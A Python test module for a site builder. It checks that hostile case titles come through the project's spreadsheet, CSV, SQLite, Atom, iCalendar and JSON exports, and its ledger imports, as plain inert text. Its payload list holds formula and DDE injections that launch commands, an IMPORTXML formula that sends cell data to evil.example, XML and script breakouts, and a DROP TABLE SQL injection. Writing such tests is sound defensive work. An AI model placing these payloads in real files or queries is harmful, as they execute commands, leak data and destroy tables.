"""A town whose every text is hostile, and what programs that are not ours read in the files that leave it or come in.

Out: workbooks (openpyxl), CSV (csv), the database (SQLite), feeds (expat and feedparser), calendars (icalendar), data and
search data (json). In: workbooks and CSV that are taken over as ledgers. A text must come through as that text, whole, and
as nothing else: no formula, no element, no further line, no end of a script.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from contextlib import closing
from functools import cache
from unicodedata import normalize
from xml.etree import ElementTree

import feedparser
import icalendar
import openpyxl

from site_builder.exports import all_exports
from site_builder.ledgers.delimited import read_delimited
from site_builder.ledgers.sheet import Sheet
from site_builder.ledgers.workbook import read_workbook
from site_builder.records.read import read_markdown
from tests.hostile.vectors import vectors
from tests.support.ledgers import DISPUTES, dispute, take
from tests.support.sites import Site
from tests.support.town import town

_OWN = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=HYPERLINK(\"http://evil.example/\",\"x\")", "=cmd|'/C calc'!A0", "＝1+1", "'=1+1", "\"=1+1", "=1+1\",=2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"//evil.example/\",A1),\"//a\")", "%0A=1+1", "|calc", "_x003D_1+1", "_x000D_", "&#61;1+1", "01", "1e9", "TRUE", "#REF!", "#N/A", "1/2", "2025-10-17",
    "]]>", "<![CDATA[x]]>", "&amp;lt;b&amp;gt;", "<?xml version=\"1.0\"?>", "<!ENTITY x \"y\">&x;", "--><b>", "</entry><entry>", "</title><title>", "BEGIN:VEVENT", "x;y,z\\n\\;\\,", "END:VCALENDAR", "\\", "x\\", "ATTACH:http://evil.example/", "\";TZID=\"x",
    "'; DROP TABLE cases; --", "'\"", "''", "\");//", "*/", "</script>", "<!--<script>", "\\u2028", "__proto__", "𠮷田", "e\u0301", "长" * 40,
)  # fmt: skip
WAYS = ("xlsx", "CSV", "SQLite", "Atom", "iCalendar", "JSON", "search data", "xlsx taken over", "CSV taken over")
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?%?|-|—")
_NO_TEXT = re.compile(r"'?=.*|#REF!|#N/A|\\")
"""Cells that say nothing of their own, and whose rows are refused with the reason: formulas, faults, a stroke."""
_SEARCH = re.compile(r'sidan\.take\("[a-z0-9-]+",(.*)\);\n')
_ATOM = "{http://www.w3.org/2005/Atom}"


@cache
def texts() -> tuple[str, ...]:
    """Single lines that a title may be, each once: our own for these forms first, then those that a page is shown."""
    lines = (" ".join(one.split()) for one in (*_OWN, *vectors()))
    return tuple(dict.fromkeys(line for line in lines if line and len(line) <= 40))


def given_away(batch: Sequence[str]) -> Site:
    """Every file but the pages of a town in which each text is a case: its title and each of its other texts."""
    made = town()
    for number, text in enumerate(batch, 1):
        task = {"id": "T1", "what": text, "done_when": text, "due": "2025-10-30", "assigned_on": "2025-09-18", "assigned_by": "2025-W38", "owner": "mediator"}  # fmt: skip
        events = [
            ("2025-09-16", "triage", "secretary", {"recusal_checked": True, "note": text}),
            ("2025-09-17", "work", "mediator", {"what": text, "note": text}),
        ]
        made.case(
            _id(number), title=text, problem=text, parties=[text], status="working", lead_post="mediator", tasks=[task],
            events=events,
        )  # fmt: skip
    return {file.path: file.data for file in all_exports(made.edition())}


def _id(number: int) -> str:
    return f"QTL-2025-{number:04d}"


def changed_on_the_way_out(batch: Sequence[str]) -> list[str]:
    """What is wrong with the files of such a town: where, and which text."""
    files = given_away(batch)
    wanted = {_id(number): text for number, text in enumerate(batch, 1)}
    return [
        *_data(files, wanted), *_database(files, wanted), *_search(files, wanted), *_feeds(files, wanted),
        *_calendars(files, wanted), *_workbooks(files, wanted), *_tables(files, wanted),
    ]  # fmt: skip


def _lost(path: str, wanted: Iterable[str], found: set[str]) -> Iterator[str]:
    yield from (f"{path}: {text!r} is not in it" for text in wanted if text not in found)


def _data(files: Site, wanted: dict[str, str]) -> Iterator[str]:
    for id, text in wanted.items():
        case = json.loads(files[f"api/cases/{id}.json"])["record"]
        found = (case["title"], case["problem"], case["tasks"][0]["what"], case["events"][1]["note"])
        yield from (f"api: {text!r} is {one!r}" for one in found if one != text)


def _database(files: Site, wanted: dict[str, str]) -> Iterator[str]:
    with closing(sqlite3.connect(":memory:")) as connection:
        connection.deserialize(files["data/register.sqlite"])
        found = {id: row for id, *row in connection.execute("SELECT id, title, problem FROM cases")}
        if found.keys() != wanted.keys() or connection.execute("PRAGMA integrity_check").fetchone() != ("ok",):
            yield "register.sqlite is not sound"
    yield from (f"register.sqlite: {text!r}" for id, text in wanted.items() if found.get(id) != [text, text])


def _search(files: Site, wanted: dict[str, str]) -> Iterator[str]:
    entries: dict[str, str] = {}
    for path, data in files.items():
        if path.startswith("search/"):
            match = _SEARCH.fullmatch(data.decode("utf-8"))
            if match is None or re.search("</|<!--|[\u2028\u2029]", data.decode("utf-8")):
                yield f"{path} is more than its data"
                continue
            told = json.loads(match[1])
            entries |= {entry[0]: entry[1] for entry in told.get("entries", ()) if entry[0] in wanted}
    yield from (f"search: {text!r} is {entries.get(id)!r}" for id, text in wanted.items() if entries.get(id) != text)


def _feeds(files: Site, wanted: dict[str, str]) -> Iterator[str]:
    for path in ("feeds/all.atom", "feeds/village-chachong.atom"):
        data = files[path]
        try:
            root = ElementTree.fromstring(data)
        except ElementTree.ParseError as error:
            yield f"{path}: {error}"
            continue
        strange = {node.tag for node in root.iter() if not str(node.tag).startswith(_ATOM)}
        if strange or feedparser.parse(data).bozo:
            yield f"{path} has {sorted(map(str, strange))}"
        titles = [node.text or "" for node in root.iter(f"{_ATOM}title")]
        yield from (f"{path}: {text!r}" for text in wanted.values() if not any(t.endswith(f"：{text}") for t in titles))


def _calendars(files: Site, wanted: dict[str, str]) -> Iterator[str]:
    try:
        calendar = icalendar.Calendar.from_ical(files["calendars/all.ics"])
    except ValueError as error:
        yield f"all.ics: {error}"
        return
    kinds = {part.name for part in calendar.walk()}
    if not kinds <= {"VCALENDAR", "VEVENT", "VALARM"}:
        yield f"all.ics has {sorted(kinds)}"
    events = list(calendar.walk("VEVENT"))
    strange = {key for event in events for key in event} & {"ATTACH", "ATTENDEE", "ORGANIZER"}
    if strange:
        yield f"all.ics has {sorted(strange)}"
    told = "\n".join(f"{event['SUMMARY']}\n{event.get('DESCRIPTION', '')}" for event in events)
    yield from (f"all.ics: {text!r}" for text in wanted.values() if text not in told)


def _workbooks(files: Site, wanted: dict[str, str]) -> Iterator[str]:
    for path, data in files.items():
        if not path.endswith(".xlsx"):
            continue
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [
            cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
        ]
        yield from (f"{path}: {cell.coordinate} counts {cell.value!r}" for cell in cells if cell.data_type == "f")
        with zipfile.ZipFile(io.BytesIO(data)) as parts:
            sheets = (name for name in parts.namelist() if "worksheets/" in name and name.endswith(".xml"))
            yield from (f"{path}: {name} has a formula" for name in sheets if re.search(rb"<f[ >]", parts.read(name)))
        if path.startswith("ledgers/"):
            yield from _lost(path, wanted.values(), {str(cell.value) for cell in cells})


def _tables(files: Site, wanted: dict[str, str]) -> Iterator[str]:
    for path, data in files.items():
        if path.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
            cells = {cell for row in rows for cell in row}
            live = (cell for cell in cells if cell.startswith(STARTS) and not _NUMBER.fullmatch(cell))
            yield from (f"{path}: {cell!r} may be counted" for cell in live)
            if path.startswith("ledgers/"):
                yield from _lost(path, wanted.values(), {*cells, *(cell.removeprefix("'") for cell in cells)})


# ledgers that come in


def changed_on_the_way_in(batch: Sequence[str]) -> list[str]:
    """The texts that a ledger's row does not bring into its record as they are: of a workbook, of a CSV."""
    rows = [DISPUTES, *(dispute(what=text, 序号=number) for number, text in enumerate(batch, 1))]
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows(rows)
    return [
        *(f"xlsx: {one}" for one in _not_taken(batch, read_workbook(_book(rows)))),
        *(f"csv: {one}" for one in _not_taken(batch, (read_delimited("台账.csv", plain.getvalue().encode("utf-8")),))),
    ]


def _book(rows: Iterable[Sequence[object]]) -> bytes:
    """As a clerk's program keeps it: every cell a text, whatever it begins with."""
    book = openpyxl.Workbook()
    sheet = book.active
    for at, row in enumerate(rows, 1):
        for across, value in enumerate(row, 1):
            cell = sheet.cell(at, across)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _not_taken(batch: Sequence[str], sheets: tuple[Sheet, ...]) -> Iterator[str]:
    taking = take(*sheets)
    found = {}
    for row in taking.taken:
        read = read_markdown(row.source)
        assert read.record is not None, read.findings
        scalars = {keys: scalar.text for keys, scalar in read.record.scalars()}
        found[int(scalars["ledger", "row"]) - 1] = scalars["problem",]
    if len(found) + len(taking.refused) != len(batch):
        yield f"{len(batch)} rows, {len(found)} taken, {len(taking.refused)} refused"
    for number, text in enumerate(batch, 1):
        wanted = normalize("NFC", text).replace("a@b.example", "〔邮箱略〕")  # no address comes into a record
        if number not in found and not _NO_TEXT.fullmatch(text):
            yield f"{text!r} is refused"
        elif found.get(number, wanted) != wanted:
            yield f"{wanted!r} is {found[number]!r}"
